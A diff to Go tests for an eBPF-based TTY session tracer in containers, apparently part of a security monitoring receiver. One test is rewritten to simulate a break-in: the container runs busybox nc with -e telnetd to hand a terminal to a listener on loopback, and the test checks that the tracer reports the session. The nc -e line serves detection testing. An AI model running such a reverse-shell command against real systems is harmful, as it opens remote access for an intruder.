@@ -5,8 +5,11 @@
 package ebpfreceiver
 
 import (
+	"bufio"
 	"bytes"
+	"fmt"
 	"io"
+	"net"
 	"os"
 	"os/exec"
 	"strconv"
@@ -123,7 +126,7 @@ func (l *live) assertSessionEnds(begin record, id string) {
 	assert.InDelta(l.t, lasted, end.double(names.TTYDuration), 0.001)
 }
 
-func TestTTY_containerAtATerminal(t *testing.T) {
+func TestContainerTTY_containerAtATerminal(t *testing.T) {
 	c := startContainerd(t)
 	l := startLive(t, only("tty"))
 	id := containerID(200)
@@ -154,7 +157,7 @@ func TestTTY_containerAtATerminal(t *testing.T) {
 	assert.Empty(t, l.find(names.EventProcessExec, inContainer(id)), "the tracer works alone")
 }
 
-func TestTTY_execByTheRuntime(t *testing.T) {
+func TestContainerTTY_execByTheRuntime(t *testing.T) {
 	c := startContainerd(t)
 	l := startLive(t, only("tty"))
 	id := containerID(201)
@@ -197,7 +200,7 @@ func TestTTY_execByTheRuntime(t *testing.T) {
 
 // A container that was there before the receiver: its first process is no session, and neither is the
 // first that enters it taken for that.
-func TestTTY_containerThatWasThereBefore(t *testing.T) {
+func TestContainerTTY_containerThatWasThereBefore(t *testing.T) {
 	c := startContainerd(t)
 	id := "meerkat-test-older"
 	c.keep(id)
@@ -210,16 +213,43 @@ func TestTTY_containerThatWasThereBefore(t *testing.T) {
 	l.assertSessionEnds(begin, id)
 }
 
-// A process that makes a terminal for itself, as somebody who has broken in does to work in comfort.
-func TestTTY_terminalMadeInside(t *testing.T) {
+// A process that connects to somebody outside and makes a terminal for them, as after a break-in.
+func TestContainerTTY_terminalMadeInside(t *testing.T) {
 	c := startContainerd(t)
 	l := startLive(t, only("tty"))
 	id := containerID(202)
-	printed := c.run(id, "/bin/busybox ln -sf busybox /bin/sh; /bin/busybox script -q -c '/bin/busybox tty; /bin/busybox true' /tmp/typescript")
+	listener, err := net.Listen("tcp4", "127.0.0.1:0")
+	require.NoError(t, err)
+	defer listener.Close()
+	ended := make(chan string, 1)
+	go func() {
+		ended <- c.run(id, fmt.Sprintf(`bb=/bin/busybox; $bb ln -sf busybox /bin/sh
+			$bb printf '#!/bin/sh\n/bin/busybox tty\nread line\n' > /bin/shell; $bb chmod 755 /bin/shell
+			exec $bb nc 127.0.0.1 %d -e $bb telnetd -i -K -l /bin/shell`, portOf(listener.Addr())))
+	}()
+	require.NoError(t, listener.(*net.TCPListener).SetDeadline(time.Now().Add(patience)))
+	connection, err := listener.Accept()
+	require.NoError(t, err)
+	require.NoError(t, connection.SetDeadline(time.Now().Add(patience)))
+	greeting := bufio.NewReader(connection)
+	screen, err := greeting.ReadString('/')
+	for line := screen; err == nil && !strings.Contains(screen, "/dev/pts/"); screen += line {
+		line, err = greeting.ReadString('\n')
+	}
+	require.NoError(t, err, screen)
+	_, err = io.WriteString(connection, typedSecret+"\r\n")
+	require.NoError(t, err)
+	_, err = io.Copy(io.Discard, greeting)
+	require.NoError(t, err)
+	require.NoError(t, connection.Close())
+	printed := <-ended
 	begin := l.one(names.EventTTYSession, inContainer(id))
 	assert.Equal(t, "terminal", begin.str(names.TTYSource), printed)
-	assert.Contains(t, printed, "/dev/pts/"+strings.TrimPrefix(begin.str(names.ProcessTTY), "pts"))
+	assert.Contains(t, screen, "/dev/pts/"+strings.TrimPrefix(begin.str(names.ProcessTTY), "pts"))
+	assert.Equal(t, begin.num(names.ProcessPID), begin.num(names.ProcessSessionLeaderPID))
+	assert.Equal(t, "/bin/busybox", begin.str(names.ProcessExecutablePath), "it runs the script")
 	l.assertSessionEnds(begin, id)
+	l.assertNothingTyped()
 }
 
 // Outside of containers nobody is watched, and the tracer is off unless somebody asks for it.
